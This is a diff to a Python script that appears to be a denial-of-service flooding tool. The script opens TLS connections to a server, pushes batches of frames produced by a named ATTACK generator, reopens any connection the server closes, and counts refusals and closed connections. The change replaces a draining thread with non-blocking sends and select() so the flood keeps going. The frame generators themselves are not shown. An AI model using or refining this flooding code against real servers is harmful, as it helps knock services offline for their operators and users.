@@ -4,6 +4,7 @@ A connection that the server ends is opened again. The last line says how many f
 how often the server ended a connection.
 """
 
+import select
 import socket
 import ssl
 import sys
@@ -123,29 +124,36 @@ def connect():
     return stream
 
 
-def drain(stream, gone):
-    """Reads, so that the server is never stopped by what it has to say, until it ends."""
+def drained(stream):
+    """Reads what the server has to say, so that it is never stopped by that; true at its end."""
     try:
         while stream.recv(65536):
             pass
-    except (OSError, ValueError):
-        pass
-    gone.set()
+        return True
+    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+        return False
 
 
-def send(stream, gone, until, counts):
+def send(stream, until, counts):
     """Sends until the time is over; whether the server has ended the connection before."""
+    stream.setblocking(False)
     batch = []
     for one in globals()[ATTACK.replace("-", "_")]():
         batch.append(one)
-        if len(batch) == 16:
-            stream.sendall(b"".join(batch))
-            counts["frames"] += len(batch)
-            batch = []
-            if gone.is_set():
-                return True
+        if len(batch) < 16:
+            continue
+        rest = b"".join(batch)
+        while rest:
             if time.monotonic() >= until:
                 return False
+            try:
+                rest = rest[stream.send(rest) :]
+            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+                select.select([stream], [stream], [], 0.1)
+            if drained(stream):
+                return True
+        counts["frames"] += len(batch)
+        batch = []
     return False
 
 
@@ -156,10 +164,8 @@ def flood(until, counts):
         except OSError:
             counts["refused"] += 1
             continue
-        gone = threading.Event()
-        threading.Thread(target=drain, args=(stream, gone), daemon=True).start()
         try:
-            counts["ended"] += send(stream, gone, until, counts)
+            counts["ended"] += send(stream, until, counts)
         except (OSError, ValueError):
             counts["ended"] += 1
         stream.close()
